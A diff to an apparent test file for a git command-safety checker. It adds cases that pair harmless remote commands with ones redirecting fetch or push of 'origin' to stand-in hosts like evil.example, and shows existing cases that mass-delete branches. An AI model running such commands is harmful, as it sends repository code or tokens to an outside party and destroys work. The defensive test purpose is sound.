@@ -70,4 +70,11 @@ testHoles({
     ['git branch -r | xargs -n1 echo', "git for-each-ref --format='%(refname:short)' refs/heads | xargs git branch -D"],
     ["git branch --list 'feat/*' | xargs git branch -D", "git branch --format='%(refname:short)' | sort | xargs -r git branch -D"],
   ],
+  // a remote moved to another host than it has: every later fetch, pull and push of it goes there (git-rules.ts movedRemote)
+  'a remote moved to another host': [
+    ['git remote set-url origin git@github.com:u/proj.git', 'git remote set-url origin https://other.example/x.git'],
+    ['git remote set-url origin https://x-access-token:$T@github.com/acme/app.git', 'git remote set-url --push origin https://evil.example/x.git'],
+    ['git remote add upstream https://github.com/org/proj.git', 'git config remote.origin.url ssh://git@evil.example/x.git'],
+    ['git config remote.origin.url git@github.com:acme/app.git', 'git -C src remote set-url origin https://evil.example/x.git'],
+  ],
 });
